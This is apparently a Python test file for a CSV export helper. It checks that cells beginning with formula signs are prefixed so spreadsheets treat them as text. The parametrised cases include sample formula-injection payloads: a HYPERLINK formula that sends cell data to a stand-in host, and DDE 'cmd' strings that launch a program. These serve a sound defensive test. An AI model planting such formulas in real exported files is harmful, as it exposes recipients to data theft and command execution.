"""CSV that runs nothing."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.web.spreadsheets import csv_lines

SIGNS = "=+-@\t\r\n＝＋－＠"


def read(lines: str) -> list[list[str]]:
    assert lines.startswith("\ufeff")
    return list(csv.reader(io.StringIO(lines[1:], newline="")))


def test_vietnamese_and_line_breaks_come_back_as_they_were() -> None:
    rows = [["Đường “Trường Sơn”, km 5;\nbản Huổi Tằm", 'có "ngoặc"']]
    assert read("".join(csv_lines(["a", "b"], rows))) == [["a", "b"], *rows]


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://xau.example?"&A1,"xem")',
        "+84 912 345 678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_what_would_be_a_formula_is_text(cell: str) -> None:
    (found,) = read("".join(csv_lines([], [[cell]])))[1]
    assert found == "'" + cell


def test_numbers_stay_numbers() -> None:
    assert list(csv_lines(["n"], [[-3], [0.5], [True], [None]])) == [
        '\ufeff"n"\r\n',
        "-3\r\n",
        "0.5\r\n",
        "1\r\n",
        '""\r\n',
    ]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_no_cell_begins_with_a_sign_of_a_formula(cells: list[str]) -> None:
    header, row = read("".join(csv_lines(cells, [cells])))
    assert header == row
    assert not any(cell.startswith(tuple(SIGNS)) for cell in row)
    assert [cell.removeprefix("'") for cell in row] == [cell.removeprefix("'") for cell in cells]
